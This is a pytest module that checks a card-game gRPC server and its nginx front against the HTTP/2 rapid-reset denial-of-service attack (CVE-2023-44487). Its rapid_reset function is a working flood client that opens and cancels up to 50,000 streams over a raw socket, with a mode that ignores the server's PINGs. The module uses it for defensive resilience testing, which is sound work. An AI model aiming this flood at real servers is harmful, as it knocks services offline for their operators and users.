"""HTTP/2 rapid reset (CVE-2023-44487) against a real server process on real Redis: one
connection opens streams and resets them at once (HEADERS, then RST_STREAM CANCEL, 50,000 times at
most, over a raw socket with the ``h2`` library). The server refuses the streams past its bound
instead of piling their calls up, so its memory stays put; an abuser that does not answer the
server's PINGs is sent GOAWAY and cut off; the server answers an honest client all along; and the
HTTP port does not speak HTTP/2 at all (uvicorn's h11).

What grpc 1.85 cannot do (service.ops.server.grpc_options says why): end the connection of an
abuser that answers PINGs, and keep an honest client's latency during the flood within a few
times its quiet latency (the abuser still keeps up to twice the per-connection stream limit of
cancelled calls ahead of it). The gRPC front the deployments put before the server (nginx, with
deploy/kubernetes/grpc-front.conf.template, run here by Debian's nginx) does: it sends the abuser
GOAWAY after 1,000 streams, a fraction of a second into the flood, before the server holds any.
Honest clients' latencies are printed (pytest -s), not bounded."""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import grpc
import h2.config
import h2.connection
import hyperframe.frame as frames
import pytest

from cardgame.v1 import game_service_pb2 as pb
from cardgame.v1 import game_service_pb2_grpc as pb_grpc
from testkit.launcher import ROOT, ServerProcess, free_port
from testkit.processes import stop_process
from tests.conftest import SERVER_TEST_FLAGS

PAIRS = 50_000            # HEADERS + RST_STREAM pairs, at most
ATTACK_BUDGET_S = 20.0    # the whole attack, flood and wait for the server's GOAWAY, at most
BATCH = 100               # pairs per write
CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x8, 0x7, 0xB
MAX_RSS_GROWTH_MB = 50
# The goal for an honest client's p99 during the flood: this many times its quiet p99
# (reported by the test, not asserted: grpc 1.85 does not meet it, and timing bounds do not hold on
# a shared machine).
P99_FACTOR = 3

# The honest client, in a process of its own (the attack loop holds this one's GIL): GetGame every
# 5 ms on its own connection until its stdin closes, then each call's start and duration as JSON.
HONEST_CLIENT = """
import json, sys, threading, time
import grpc
from cardgame.v1 import game_service_pb2 as pb, game_service_pb2_grpc as pb_grpc
address, game_id, limit_s = sys.argv[1], sys.argv[2], float(sys.argv[3])
done = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), done.set()), daemon=True).start()
samples = []
with grpc.insecure_channel(address) as channel:
    stub = pb_grpc.GameServiceStub(channel)
    stub.GetGame(pb.GetGameRequest(game_id=game_id), timeout=10)
    print("ready", flush=True)
    end = time.monotonic() + limit_s
    while not done.is_set() and time.monotonic() < end:
        start = time.monotonic()
        stub.GetGame(pb.GetGameRequest(game_id=game_id), timeout=30)
        samples.append((start, time.monotonic() - start))
        time.sleep(0.005)
print(json.dumps(samples), flush=True)
"""


def _rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmRSS for process {pid}")


def _p99(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]


class _FrameReader:
    """The frames the server sends, parsed apart from the h2 connection (which an abuser that
    ignores the server's PINGs never feeds them to)."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self.counts: dict[str, int] = {}
        self.goaway: frames.GoAwayFrame | None = None
        self.settings_to_ack = 0

    def feed(self, data: bytes) -> None:
        self.buffer += data
        while len(self.buffer) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self.buffer[9:9 + length])))
            del self.buffer[:9 + length]
            name = type(frame).__name__
            if isinstance(frame, frames.RstStreamFrame):
                name += f":{frame.error_code}"
            self.counts[name] = self.counts.get(name, 0) + 1
            if isinstance(frame, frames.GoAwayFrame):
                self.goaway = frame
            elif isinstance(frame, frames.SettingsFrame) and "ACK" not in frame.flags:
                self.settings_to_ack += 1


@dataclasses.dataclass
class Attack:
    pairs: int = 0               # pairs sent
    flood_s: float = 0.0         # from the first pair to the last
    closed_after_s: float | None = None   # GOAWAY received or socket closed, from the first pair
    goaway_code: int | None = None
    goaway_text: bytes = b""
    counts: dict[str, int] = dataclasses.field(default_factory=dict)
    window: tuple[float, float] = (0.0, 0.0)   # the flood, in time.monotonic()
    rss_peak_mb: float = 0.0


def rapid_reset(port: int, pid: int, answer_pings: bool, linger_s: float, pairs: int = PAIRS,
                budget_s: float = ATTACK_BUDGET_S) -> Attack:
    """Open streams and reset them at once on one connection to 127.0.0.1:``port`` (``pairs`` at
    most), then wait ``linger_s`` for the server to end the connection, all within ``budget_s``,
    sampling process ``pid``'s RSS. The abuser acknowledges the server's SETTINGS (else gRPC would
    refuse its streams before any call exists) and, with ``answer_pings``, its PINGs too."""
    result = Attack()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/cardgame.v1.GameService/GetGame"),
               (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers")]
    reader = _FrameReader()
    closed = False
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        start = time.monotonic()
        deadline = start + budget_s

        def receive() -> bool:
            """Read what the server sent; whether the connection is over."""
            try:
                data = sock.recv(1 << 20)
            except BlockingIOError:
                return False
            except OSError:
                return True
            if not data:
                return True
            reader.feed(data)
            if answer_pings:
                conn.receive_data(data)   # h2 queues the SETTINGS and PING acknowledgements
            return reader.goaway is not None

        def outgoing() -> bytes:
            acks = b""
            if not answer_pings:
                acks = frames.SettingsFrame(0, flags=["ACK"]).serialize() * reader.settings_to_ack
                reader.settings_to_ack = 0
            return conn.data_to_send() + acks

        stream_id = 1
        while result.pairs < pairs and not closed and time.monotonic() < deadline:
            for _ in range(BATCH):
                conn.send_headers(stream_id, headers)
                conn.reset_stream(stream_id, error_code=CANCEL)
                stream_id += 2
            result.pairs += BATCH
            pending = memoryview(outgoing())
            while pending and not closed and time.monotonic() < deadline:
                try:
                    pending = pending[sock.send(pending):]
                except BlockingIOError:
                    time.sleep(0.001)
                except OSError:
                    closed = True
                closed = closed or receive()
            result.rss_peak_mb = max(result.rss_peak_mb, _rss_mb(pid))
        result.window = (start, time.monotonic())
        result.flood_s = result.window[1] - start
        deadline = min(deadline, time.monotonic() + linger_s)
        while not closed and time.monotonic() < deadline:   # the server's answer to it
            closed = receive()
            if not closed:
                with_acks = outgoing()
                if with_acks:
                    try:
                        sock.sendall(with_acks)
                    except OSError:
                        closed = True
                time.sleep(0.01)
            result.rss_peak_mb = max(result.rss_peak_mb, _rss_mb(pid))
        if closed:
            result.closed_after_s = time.monotonic() - start
    if reader.goaway is not None:
        result.goaway_code, result.goaway_text = reader.goaway.error_code, reader.goaway.additional_data
    result.counts = reader.counts
    return result


@dataclasses.dataclass
class Measured:
    attack: Attack
    rss_before_mb: float
    rss_peak_mb: float    # during the attack and at its end
    quiet: list[float]    # the honest client's latencies before the flood, seconds
    flooded: list[float]  # and during it


def _honest_client(address: str, game_id: str) -> subprocess.Popen:
    client = subprocess.Popen([sys.executable, "-c", HONEST_CLIENT, address, game_id, str(ATTACK_BUDGET_S + 10)],
                              cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert client.stdout is not None and client.stdout.readline().strip() == "ready"
    return client


def _measure(server: ServerProcess, game_id: str, answer_pings: bool, linger_s: float,
             front_port: int | None = None) -> Measured:
    """The quiet latencies for 2 s, then the attack with the honest client still going: both on
    the server's gRPC port, or both through the gRPC front on ``front_port``."""
    assert server.proc is not None
    pid = server.proc.pid
    port = front_port or server.port
    client = _honest_client(f"127.0.0.1:{port}", game_id)
    try:
        time.sleep(2.0)
        rss_before = _rss_mb(pid)
        attack = rapid_reset(port, pid, answer_pings, linger_s)
        rss_after = _rss_mb(pid)
        out, _ = client.communicate(timeout=30)
    finally:
        if client.poll() is None:
            client.kill()
            client.wait()
    samples = json.loads(out)
    first, last = attack.window
    measured = Measured(attack, rss_before, max(rss_after, attack.rss_peak_mb),
                        quiet=[duration for begun, duration in samples if begun < first],
                        flooded=[duration for begun, duration in samples if first <= begun <= last])
    print(_summary(measured, answer_pings) + (" (through the gRPC front)" if front_port else ""))   # pytest -s
    return measured


def _summary(measured: Measured, answer_pings: bool) -> str:
    attack = measured.attack
    end = (f"ended after {attack.closed_after_s:.1f} s (GOAWAY {attack.goaway_code} {attack.goaway_text!r})"
           if attack.closed_after_s is not None else "still open")
    p99 = {name: f"{_p99(values) * 1e3:.1f} ms ({len(values)} calls)" if values else "no calls"
           for name, values in (("quiet", measured.quiet), ("flooded", measured.flooded))}
    return (f"\nrapid reset, abuser {'answering' if answer_pings else 'ignoring'} PINGs: {attack.pairs} pairs in "
            f"{attack.flood_s:.1f} s, connection {end}; server frames {attack.counts}; RSS "
            f"{measured.rss_before_mb:.0f} -> peak {measured.rss_peak_mb:.0f} MB; honest GetGame p99 "
            f"{p99['quiet']} quiet, {p99['flooded']} during the flood")


@pytest.fixture(scope="module")
def target(redis_url: str, module_prefix: str) -> Iterator[ServerProcess]:
    """One server on Redis, with its HTTP port."""
    with ServerProcess(*SERVER_TEST_FLAGS, "--http-port", "0", redis_url=redis_url, prefix=module_prefix) as proc:
        yield proc


@pytest.fixture(scope="module")
def game_id(target: ServerProcess) -> str:
    with target.channel() as channel:
        seats = [pb.SeatConfig(name=f"P{i}") for i in range(4)]
        request = pb.CreateGameRequest(variant_name="spades", seats=seats)
        return pb_grpc.GameServiceStub(channel).CreateGame(request, timeout=10).game_id


@pytest.fixture(scope="module")
def silent_abuser(target: ServerProcess, game_id: str) -> Measured:
    """The attack by a client that never answers the server's PINGs, measured."""
    return _measure(target, game_id, answer_pings=False, linger_s=ATTACK_BUDGET_S)


def _get_game_works(server: ServerProcess, game_id: str) -> None:
    with server.channel() as channel:
        reply = pb_grpc.GameServiceStub(channel).GetGame(pb.GetGameRequest(game_id=game_id), timeout=5)
    assert reply.view.game_id == game_id


def test_an_abuser_that_ignores_pings_is_sent_goaway_and_cut_off(silent_abuser, target, game_id):
    attack = silent_abuser.attack
    assert attack.closed_after_s is not None, (
        f"the server kept the abuser's connection open for {ATTACK_BUDGET_S} s: {attack}")
    assert attack.goaway_code == ENHANCE_YOUR_CALM and attack.goaway_text == b"ping_timeout", attack
    assert attack.counts.get(f"RstStreamFrame:{REFUSED_STREAM}", 0) > 0, attack   # refused past the bound
    _get_game_works(target, game_id)


def test_an_abusers_calls_do_not_pile_up_in_memory(silent_abuser):
    growth = silent_abuser.rss_peak_mb - silent_abuser.rss_before_mb
    assert growth < MAX_RSS_GROWTH_MB, (
        f"RSS {silent_abuser.rss_before_mb:.0f} -> {silent_abuser.rss_peak_mb:.0f} MB over "
        f"{silent_abuser.attack.pairs} resets")


def test_an_abuser_that_answers_pings_is_refused_and_bounded(target, game_id):
    """grpc 1.85 sends no GOAWAY to this one (no count of resets ends a connection): its streams
    past the bound are refused, its memory stays put and the server goes on answering."""
    measured = _measure(target, game_id, answer_pings=True, linger_s=2.0)
    attack = measured.attack
    assert attack.pairs == PAIRS or attack.closed_after_s is not None, attack
    assert attack.counts.get(f"RstStreamFrame:{REFUSED_STREAM}", 0) > 0, attack
    assert measured.rss_peak_mb - measured.rss_before_mb < MAX_RSS_GROWTH_MB, measured
    _get_game_works(target, game_id)


def test_an_honest_client_is_answered_all_through_the_attack(silent_abuser):
    """Every GetGame of the honest client succeeds during the flood (its process stops at the
    first failure). Its latency is only reported: the issue's goal of a p99 within 3x the quiet
    one is not met by grpc 1.85 (up to twice the stream limit of cancelled calls queue ahead of
    it), and a timing bound would fail on a loaded machine for reasons of its own."""
    quiet, flooded = silent_abuser.quiet, silent_abuser.flooded
    assert len(quiet) >= 50 and len(flooded) >= 5, (len(quiet), len(flooded))
    print(f"honest GetGame p99 {_p99(flooded) * 1e3:.1f} ms during the attack ({len(flooded)} calls), "
          f"{_p99(quiet) * 1e3:.1f} ms quiet ({len(quiet)} calls); goal {P99_FACTOR}x quiet")


def test_the_http_port_does_not_speak_http2(target):
    """An HTTP/2 prior-knowledge preface and SETTINGS on the HTTP port: h11 answers HTTP/1.1 400
    (or closes), never with HTTP/2 SETTINGS, so rapid reset cannot reach the HTTP port."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    answer = b""
    assert target.http_port
    with socket.create_connection(("127.0.0.1", target.http_port), timeout=5) as sock:
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            try:
                data = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break
            if not data:
                break
            answer += data
    is_settings = len(answer) >= 9 and answer[3] == frames.SettingsFrame.type
    assert not is_settings, answer[:64]
    assert answer == b"" or answer.startswith(b"HTTP/1.1 4"), answer[:64]


# ---- the gRPC front (deploy/kubernetes/grpc-front.conf.template): nginx ends the abuser's connection ----

FRONT_TEMPLATE = ROOT / "deploy" / "kubernetes" / "grpc-front.conf.template"
FRONT_MAIN = """daemon off;
worker_processes 1;
pid {prefix}/nginx.pid;
error_log stderr warn;
events {{ worker_connections 1024; }}
http {{
    access_log off;
    include {prefix}/conf.d/*.conf;
}}
"""
FRONT_GOAWAY_S = 2.0   # the front must end the abuser's connection this soon (it takes ~0.1 s)


def render(template: str, values: dict[str, str]) -> str:
    """``template`` with each ``${NAME}`` replaced as the nginx image's envsubst does; KeyError
    for a name without a value."""
    return re.sub(r"\$\{([A-Z_]+)\}", lambda match: values[match.group(1)], template)


@pytest.fixture(scope="module")
def front(target: ServerProcess, tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """Debian's nginx running the shipped template in front of the server's gRPC port; its port."""
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    if not Path(nginx).exists():
        pytest.fail("nginx is needed for the gRPC front's test: `make debian-packages` installs it", pytrace=False)
    prefix = tmp_path_factory.mktemp("grpc-front")
    (prefix / "conf.d").mkdir()
    (prefix / "logs").mkdir()
    port = free_port()
    (prefix / "conf.d" / "cardgame-grpc.conf").write_text(render(FRONT_TEMPLATE.read_text(), {
        "CARDGAME_GRPC_UPSTREAM": f"127.0.0.1:{target.port}", "GRPC_FRONT_PORT": f"127.0.0.1:{port}"}))
    (prefix / "nginx.conf").write_text(FRONT_MAIN.format(prefix=prefix))
    proc = subprocess.Popen([nginx, "-p", str(prefix), "-c", str(prefix / "nginx.conf")],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 10
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"nginx did not start: {proc.stdout.read() if proc.stdout else ''}", pytrace=False)
                time.sleep(0.05)
        yield port
    finally:
        stop_process(proc)


@pytest.fixture(scope="module")
def fronted_abuser(target: ServerProcess, game_id: str, front: int) -> Measured:
    """The attack through the gRPC front, by a client that answers every PING (the one grpc 1.85
    alone cannot cut off), measured."""
    return _measure(target, game_id, answer_pings=True, linger_s=FRONT_GOAWAY_S, front_port=front)


def test_the_front_sends_the_abuser_goaway_and_cuts_it_off(fronted_abuser, target, game_id, front):
    attack = fronted_abuser.attack
    assert attack.closed_after_s is not None and attack.closed_after_s < FRONT_GOAWAY_S, attack
    assert attack.counts.get("GoAwayFrame") == 1 and attack.pairs < 2000, attack   # after keepalive_requests
    assert fronted_abuser.rss_peak_mb - fronted_abuser.rss_before_mb < MAX_RSS_GROWTH_MB, fronted_abuser
    with grpc.insecure_channel(f"127.0.0.1:{front}") as channel:   # the front goes on serving
        reply = pb_grpc.GameServiceStub(channel).GetGame(pb.GetGameRequest(game_id=game_id), timeout=5)
    assert reply.view.game_id == game_id


def test_an_honest_client_through_the_front_is_answered_all_through_the_attack(fronted_abuser):
    """Every GetGame through the front succeeds during the attack (the client stops at the first
    failure); its p99 is printed beside the quiet one, not bounded (a timing bound would fail on a
    loaded machine for reasons of its own)."""
    quiet, flooded = fronted_abuser.quiet, fronted_abuser.flooded
    assert len(quiet) >= 50, len(quiet)
    print(f"through the front: honest GetGame p99 {_p99(flooded) * 1e3 if flooded else 0:.1f} ms during the "
          f"attack ({len(flooded)} calls), {_p99(quiet) * 1e3:.1f} ms quiet; goal {P99_FACTOR}x quiet")


def test_the_shipped_front_needs_no_other_value():
    with pytest.raises(KeyError):
        render("listen ${PORT};", {})
    names = set(re.findall(r"\$\{([A-Z_]+)\}", FRONT_TEMPLATE.read_text()))
    assert names == {"CARDGAME_GRPC_UPSTREAM", "GRPC_FRONT_PORT"}
